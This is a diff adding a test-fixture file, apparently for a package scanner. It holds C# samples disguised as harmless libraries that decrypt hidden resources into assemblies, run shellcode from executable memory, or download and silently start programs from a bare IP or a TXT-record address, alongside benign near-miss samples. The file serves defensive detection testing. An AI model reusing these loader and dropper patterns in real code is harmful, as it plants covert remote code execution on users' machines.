@@ -1,0 +1,244 @@
+import { csharp, type CSharp, type Examples } from '../../../tests/kit/examples.js';
+
+/** Nobody sets it: what is below is read, never run. */
+const never = 'if (Environment.GetEnvironmentVariable("ASSAY_FIXTURE_NEVER_SET") != "run") return;';
+
+function library(text: string): Record<string, CSharp> {
+  return {
+    'lib/net10.0/Fixture.dll': csharp(`using System;
+using System.Diagnostics;
+using System.IO;
+using System.IO.Compression;
+using System.Linq;
+using System.Net.Http;
+using System.Reflection;
+using System.Runtime.CompilerServices;
+using System.Runtime.InteropServices;
+using System.Security.Cryptography;
+using System.Text;
+using System.Threading.Tasks;
+${text}`),
+  };
+}
+
+const stage = (opened: string, after: string): string => `public static class Colors
+{
+    static Colors() => Palette.Begin();
+
+    public static int Mix(int a, int b) => (a + b) / 2;
+}
+
+internal static class Palette
+{
+    private static readonly byte[] Key = { 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16 };
+
+    internal static void Begin()
+    {
+        ${never}
+        using var stream = typeof(Palette).Assembly.GetManifestResourceStream("palette.bin");
+        using var image = new MemoryStream();
+        ${opened}
+        ${after}
+    }
+}`;
+
+const decrypted = `using var aes = Aes.Create();
+        using var plain = new CryptoStream(stream, aes.CreateDecryptor(Key, Key), CryptoStreamMode.Read);
+        plain.CopyTo(image);`;
+
+const called =
+  'Assembly.Load(image.ToArray()).GetType("Entry")?.GetMethod("Run")?.Invoke(null, null);';
+
+const fetcher = (address: string): string => `public sealed class Store
+{
+    public Store() => _ = Backend.Refresh();
+
+    public string Get(string key) => key;
+}
+
+internal static class Backend
+{
+    internal static async Task Refresh()
+    {
+        ${never}
+        using var http = new HttpClient();
+        var path = Path.Combine(Path.GetTempPath(), Guid.NewGuid().ToString("N") + ".exe");
+        await File.WriteAllBytesAsync(path, await http.GetByteArrayAsync(${address}));
+        Process.Start(new ProcessStartInfo(path) { CreateNoWindow = true });
+    }
+}`;
+
+export const examples: Examples = {
+  flagged: [
+    {
+      name: 'decrypted-in-static-constructor',
+      about:
+        'Using a library of colours decrypts a resource, loads it as an assembly and calls it.',
+      files: library(stage(decrypted, called)),
+    },
+    {
+      name: 'fetched-from-bare-address',
+      about: 'Making an object of a cache fetches a program from a bare address and starts it.',
+      files: library(fetcher('"http://203.0.113.17/u"')),
+    },
+    {
+      name: 'record-says-where',
+      about:
+        'A text record, asked over HTTPS, says where to fetch from; the file is written in another method.',
+      files: library(`public static class Trainer
+{
+    public static async Task Install(string game)
+    {
+        ${never}
+        using var http = new HttpClient();
+        var text = await http.GetStringAsync("https://resolver.invalid/resolve?name=" + game + ".cfg.invalid&type=TXT");
+        var place = Encoding.UTF8.GetString(Convert.FromBase64String(text.Trim('"')));
+        var file = Write(await http.GetByteArrayAsync(place));
+        var start = new ProcessStartInfo { FileName = "powershell.exe", UseShellExecute = true };
+        start.Arguments = "-NoProfile -Command Start-Process '" + file + "'";
+        Process.Start(start);
+    }
+
+    private static string Write(byte[] bytes)
+    {
+        var path = Path.Combine(Path.GetTempPath(), "runtime.exe");
+        using var file = new FileStream(path, FileMode.Create);
+        file.Write(bytes, 0, bytes.Length);
+        return path;
+    }
+}`),
+    },
+    {
+      name: 'samples-of-a-sound',
+      about:
+        'Loading the library reads an assembly out of the samples of a sound, in place and by a helper.',
+      files: library(`internal static class Chime
+{
+    [ModuleInitializer]
+    internal static void Prepare()
+    {
+        ${never}
+        using var sound = new BinaryReader(typeof(Chime).Assembly.GetManifestResourceStream("ready.wav"));
+        var samples = sound.ReadBytes(4096);
+        Open(samples);
+        Assembly.Load(samples).EntryPoint?.Invoke(null, null);
+    }
+
+    private static void Open(byte[] bytes)
+    {
+        for (var at = 0; at < bytes.Length; at++) bytes[at] ^= (byte)(0x5a + at);
+    }
+}`),
+    },
+    {
+      name: 'machine-code',
+      about: 'Decoded bytes are copied into memory that may run, and called through a pointer.',
+      files: library(`internal static class Boot
+{
+    private delegate int Entry();
+
+    [DllImport("kernel32.dll")]
+    private static extern IntPtr VirtualAlloc(IntPtr address, UIntPtr size, uint type, uint protection);
+
+    [ModuleInitializer]
+    internal static void Begin()
+    {
+        ${never}
+        using var stream = typeof(Boot).Assembly.GetManifestResourceStream("theme.dat");
+        using var memory = new MemoryStream();
+        stream.CopyTo(memory);
+        var image = memory.ToArray().Select((one, at) => (byte)(one ^ (at + 7))).ToArray();
+        var place = VirtualAlloc(IntPtr.Zero, (UIntPtr)image.Length, 0x3000, 0x40);
+        Marshal.Copy(image, 0, place, image.Length);
+        Marshal.GetDelegateForFunctionPointer<Entry>(place)();
+    }
+}`),
+    },
+  ],
+  clean: [
+    {
+      name: 'decrypted-data',
+      about: 'The same resource is decrypted in the same place, and read as text.',
+      nearMiss: true,
+      files: library(
+        stage(decrypted, 'Console.WriteLine(Encoding.UTF8.GetString(image.ToArray()));'),
+      ),
+    },
+    {
+      name: 'bundled-assemblies',
+      about:
+        'What is compressed in a resource is loaded when the runtime asks for it, and called by nobody here.',
+      nearMiss: true,
+      files: library(`internal static class Loader
+{
+    [ModuleInitializer]
+    internal static void Attach() => AppDomain.CurrentDomain.AssemblyResolve += Resolve;
+
+    private static Assembly Resolve(object sender, ResolveEventArgs args)
+    {
+        using var stream = typeof(Loader).Assembly.GetManifestResourceStream(args.Name + ".compressed");
+        using var inflated = new DeflateStream(stream, CompressionMode.Decompress);
+        using var memory = new MemoryStream();
+        inflated.CopyTo(memory);
+        return Assembly.Load(memory.ToArray());
+    }
+}`),
+    },
+    {
+      name: 'program-from-callers-host',
+      about:
+        'An updater fetches from where its caller says, checks a digest and starts the installer.',
+      nearMiss: true,
+      files: library(`public sealed class Updater
+{
+    private readonly Uri feed;
+    private readonly string digest;
+
+    public Updater(Uri feed, string digest)
+    {
+        this.feed = feed;
+        this.digest = digest;
+    }
+
+    public async Task Apply()
+    {
+        using var http = new HttpClient();
+        var bytes = await http.GetByteArrayAsync(feed);
+        if (Convert.ToHexString(SHA256.HashData(bytes)) != digest) throw new InvalidDataException();
+        var path = Path.Combine(Path.GetTempPath(), "setup.exe");
+        await File.WriteAllBytesAsync(path, bytes);
+        Process.Start(path);
+    }
+}`),
+    },
+    {
+      name: 'formatter-from-its-maker',
+      about: 'A wrapper fetches its program from a fixed host over TLS, when it is asked to run.',
+      files: library(`public static class Formatter
+{
+    public static async Task Run(string file)
+    {
+        ${never}
+        using var http = new HttpClient();
+        var path = Path.Combine(Path.GetTempPath(), "formatter.exe");
+        await File.WriteAllBytesAsync(path, await http.GetByteArrayAsync("https://releases.formatter.invalid/3/formatter.exe"));
+        Process.Start(path, file);
+    }
+}`),
+    },
+    {
+      name: 'document-that-is-shown',
+      about: 'A report is downloaded from a fixed host and opened in the viewer of the system.',
+      files: library(`public sealed class Report
+{
+    public async Task Show(string number)
+    {
+        using var http = new HttpClient();
+        var path = Path.Combine(Path.GetTempPath(), number + ".pdf");
+        await File.WriteAllBytesAsync(path, await http.GetByteArrayAsync("http://203.0.113.17/" + number));
+        Process.Start(new ProcessStartInfo(path) { UseShellExecute = true });
+    }
+}`),
+    },
+  ],
+};
